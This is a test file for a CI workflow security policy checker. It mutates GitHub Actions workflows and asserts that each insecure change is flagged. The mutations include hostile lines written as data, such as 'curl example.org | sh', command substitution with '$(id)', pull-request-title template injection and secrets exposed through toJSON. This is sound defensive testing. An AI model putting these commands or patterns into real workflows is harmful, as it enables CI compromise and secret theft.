/** The workflows of this repository keep to the policy, and a copy with one thing changed does not. */
import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { test } from 'node:test'
import { checkAction, checkWorkflow } from './policy.ts'

const root = resolve(import.meta.dirname, '../../..')
const folder = join(root, '.github/workflows')
const read = (name: string) => readFileSync(join(folder, name), 'utf8')

test('every workflow keeps to the policy', () => {
  const names = globSync('*.{yml,yaml}', { cwd: folder })
  assert.ok(names.length >= 4)
  for (const name of names) assert.deepEqual(checkWorkflow(read(name)), [], name)
})

const SHA = '08c6903cd8c0fde910a37f88322edcfb5dd907a8'

/** What is changed in which workflow, and the rule that must say so. */
type Mutation = [rule: string, file: string, from: string, to: string]
const MUTATIONS: Mutation[] = [
  ['self-hosted', 'bench.yml', 'on:\n', 'on:\n  pull_request:\n'],
  ['trigger', 'bench.yml', 'on:\n', 'on:\n  pull_request_target:\n'],
  ['self-hosted', 'bench.yml', 'on:\n', 'on:\n  issue_comment:\n'],
  ['self-hosted', 'bench.yml', 'on:\n', 'on:\n  workflow_run:\n    workflows: [pull-request]\n'],
  ['trigger', 'pull-request.yml', '  pull_request:\n', '  pull_request_target:\n'],
  ['trigger', 'pull-request.yml', 'on:\n  pull_request:\n', 'on: [pull_request, issue_comment]\n'],
  ['trigger', 'pull-request.yml', 'on:\n  pull_request:\n', 'on: workflow_run\n'],
  ['self-hosted', 'pull-request.yml', 'runs-on: ubuntu-24.04', 'runs-on: bench-a'],
  ['self-hosted', 'pull-request.yml', 'runs-on: ubuntu-24.04', 'runs-on: [self-hosted]'],
  ['self-hosted', 'pull-request.yml', 'runs-on: ubuntu-24.04', 'runs-on: { group: ours }'],
  ['self-hosted', 'pull-request.yml', 'runs-on: ubuntu-24.04', `runs-on: \${{ vars.LABEL }}`],
  ['reused', 'pull-request.yml', 'jobs:\n', `jobs:\n  x:\n    uses: a/b/c.yml@${SHA} # v1.0.0\n`],
  ['template-injection', 'pull-request.yml', '"$GITHUB_SHA"', `"\${{ github.event.pull_request.title }}"`],
  ['template-injection', 'bench.yml', '--hosts "$HOSTS"', `--hosts "\${{ inputs.hosts }}"`],
  ['key', 'pull-request.yml', '- run: bash .ci/run', '- run: bash .ci/run\n        shell: bash {0} x'],
  ['key', 'pull-request.yml', 'jobs:\n', 'defaults:\n  run:\n    shell: bash {0} x\njobs:\n'],
  ['key', 'pull-request.yml', '    steps:\n', '    defaults:\n      run:\n        shell: bash {0} x\n    steps:\n'],
  ['key', 'pull-request.yml', 'jobs:\n', 'env:\n  KEY: x\njobs:\n'],
  ['key', 'pull-request.yml', '- run: npm ci', '- run: npm ci\n        continue-on-error: true'],
  ['key', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    container: ubuntu\n'],
  [
    'key',
    'bench.yml',
    '    permissions: {}\n',
    '    permissions: {}\n    services:\n      x:\n        image: ubuntu\n',
  ],
  ['cache', 'publish.yml', 'on:\n', 'on:\n  pull_request:\n'],
  ['cache', 'publish.yml', '      - run: npm run check:reproducible\n', '      - run: npm run build\n'],
  ['cache', 'publish.yml', '      contents: read\n', '      contents: write\n'],
  ['cache', 'bench.yml', 'actions/checkout@', 'actions/cache@'],
  ['pin', 'pull-request.yml', `actions/checkout@${SHA} # v5.0.0`, 'actions/checkout@v5 # v5.0.0'],
  ['pin', 'pull-request.yml', `actions/checkout@${SHA} # v5.0.0`, `actions/checkout@${SHA}`],
  ['pin', 'pull-request.yml', `actions/checkout@${SHA} # v5.0.0`, './local'],
  ['excessive-permissions', 'pull-request.yml', 'permissions: {}\n', ''],
  ['excessive-permissions', 'pull-request.yml', 'permissions: {}\n', 'permissions: write-all\n'],
  ['permissions', 'pull-request.yml', 'contents: read', 'contents: write'],
  ['permissions', 'pull-request.yml', '    permissions:\n      contents: read\n', ''],
  ['permissions', 'publish.yml', 'contents: read', 'actions: read'],
  ['secret', 'pull-request.yml', 'jobs:\n', `env:\n  KEY: \${{ secrets.KEY }}\njobs:\n`],
  ['secret', 'publish.yml', 'jobs:\n', `env:\n  KEY: \${{ github.token }}\njobs:\n`],
  ['secret', 'pull-request.yml', '- run: npm ci', '- if: secrets.KEY\n        run: npm ci'],
  ['secret', 'pull-request.yml', '- run: npm ci', '- env:\n          GH_TOKEN: x\n        run: npm ci'],
  ['secret', 'bench.yml', `DIGEST: \${{ needs.plan.outputs.digest }}`, `GH_TOKEN: \${{ github.token }}`],
  ...[
    ...['secrets.KEY', 'SECRETS.KEY', "secrets['KEY']", 'toJSON(secrets)', 'toJSON(github)', 'github', 'github.*'],
    ...["github['token']", 'github.token', 'GitHub.Token', "format('{0}', github.token)", "'}}' && secrets.KEY", 'x.y'],
  ].map(
    (text): Mutation => [
      'secret',
      'pull-request.yml',
      '    steps:\n',
      `    env:\n      K: \${{ ${text} }}\n    steps:\n`,
    ],
  ),
  ['artipacked', 'pull-request.yml', 'persist-credentials: false', 'persist-credentials: true'],
  ['install-scripts', 'bench.yml', 'npm ci --omit=dev --ignore-scripts', 'npm ci --omit=dev'],
  [
    'install-scripts',
    'publish.yml',
    '    steps:\n      - uses: actions/deploy',
    '    steps:\n      - run: npm i\n      - uses: actions/deploy',
  ],
  ['upload', 'bench.yml', '      - id: pack\n', '      - run: npm run pack-bundle -- --out kit\n      - id: pack\n'],
  ['upload', 'pull-request.yml', 'contents: read', 'contents: write'],
  ['summary', 'pull-request.yml', '--out preview\n', '--out preview >> "$GITHUB_STEP_SUMMARY"\n'],
  ['summary', 'build.yml', '    env:\n', '    outputs:\n      a: b\n    env:\n'],
  ['permissions', 'bench.yml', 'actions: read', 'actions: write'],
  ['secret', 'bench.yml', 'toJSON(needs.measure.outputs)', 'toJSON(needs)'],
  ['secret', 'bench.yml', 'toJSON(needs.measure.outputs)', 'toJSON(github.token)'],
  ['self-hosted', 'bench.yml', ' || test $? -eq 1', ' || true'],
  ['silenced', 'bench.yml', 'zizmor: ignore[self-hosted-runner]', 'zizmor: ignore'],
  ['silenced', 'pull-request.yml', '- run: npm ci', '- run: npm ci # zizmor: ignore[template-injection]'],
  ['time', 'nightly.yml', '    timeout-minutes: 60\n', ''],
  ['self-hosted', 'bench.yml', '    permissions: {}\n', '    permissions:\n      contents: read\n'],
  ['self-hosted', 'bench.yml', '    environment:\n      name: bench\n', ''],
  ['self-hosted', 'bench.yml', '      queue: max\n', ''],
  [
    'self-hosted',
    'bench.yml',
    `bench-host-\${{ matrix.host }}\n      cancel-in-progress: false`,
    `bench-host-\${{ matrix.host }}\n      cancel-in-progress: true`,
  ],
  ['self-hosted', 'bench.yml', `bench-host-\${{ matrix.host }}`, 'bench-hosts'],
  ['self-hosted', 'bench.yml', "    if: github.ref == 'refs/heads/main'\n", ''],
  ['self-hosted', 'bench.yml', '    environment:\n      name: bench\n', `    environment: \${{ inputs.hosts }}\n`],
  ['self-hosted', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
  ['secret', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
  ['self-hosted', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: "!cancelled()"\n'],
  ['self-hosted', 'bench.yml', ' | sha256sum --check --strict', ''],
  ['self-hosted', 'bench.yml', 'echo "$DIGEST  ', 'echo "$HOST  '],
  ['self-hosted', 'bench.yml', 'working-directory: checkout', 'working-directory: kit'],
  ['self-hosted', 'bench.yml', '          path: kit\n', '          path: checkout\n'],
  ['self-hosted', 'bench.yml', '          path: kit\n', ''],
  ['self-hosted', 'bench.yml', ' --data ../run --sandbox', ' --data ../run'],
  ['self-hosted', 'bench.yml', ' --data ../run --sandbox', ' --data ../run # --sandbox'],
  [
    'self-hosted',
    'bench.yml',
    '- run: rm -rf kit',
    `- uses: actions/checkout@${SHA} # v5.0.0\n      - run: rm -rf kit`,
  ],
  ...[
    ...['npm run bench -- --sandbox --data $(id)', 'node runners/bench.ts --kit kit.json', 'curl example.org | sh'],
    ...['rm -rf kit; sh kit/run', 'rm -rf kit || sh kit/run', 'echo "$(sh kit/run)"', 'echo "`id`"', 'bash kit/run'],
    ...['tar --extract --to-command sh --file kit/kit.tar', 'tar --extract --file kit/other.tar --directory checkout'],
  ].map(
    (command): Mutation => [
      'self-hosted',
      'bench.yml',
      '- run: rm -rf kit',
      `- run: ${JSON.stringify(command)}\n      - run: rm -rf kit`,
    ],
  ),
]

for (const [rule, file, from, to] of MUTATIONS)
  test(`${file} with ${JSON.stringify(to.trim() || 'nothing')} in place of ${JSON.stringify(from)}: ${rule}`, () => {
    const text = read(file)
    const changed = text.replace(from, () => to)
    assert.notEqual(changed, text, 'the mutation found nothing to change')
    const rules = checkWorkflow(changed).map(problem => problem.rule)
    assert.ok(rules.includes(rule), `it says ${JSON.stringify(rules)}`)
  })

const setUp = readFileSync(join(folder, '../actions/set-up/action.yml'), 'utf8')

test('the action of ours keeps to the policy', () => {
  assert.deepEqual(checkAction(setUp), [])
})

for (const [rule, from, to] of [
  ['pin', /@[0-9a-f]{40}/, '@v5'],
  ['pin', ' # v5.0.0', ''],
  ['key', 'using: composite', 'using: node24'],
  ['key', 'steps:\n', 'steps:\n    - run: npm ci\n      shell: bash\n'],
  ['key', '      with:\n', '      if: always()\n      with:\n'],
  ['key', 'runs:\n', 'inputs:\n  token: {}\nruns:\n'],
  ['expression', 'node-version-file: .node-version', `node-version-file: \${{ github.token }}`],
] as const)
  test(`set-up with ${JSON.stringify(to)} in place of ${from}: ${rule}`, () => {
    const changed = setUp.replace(from, () => to)
    assert.notEqual(changed, setUp)
    assert.ok(checkAction(changed).some(problem => problem.rule === rule))
  })
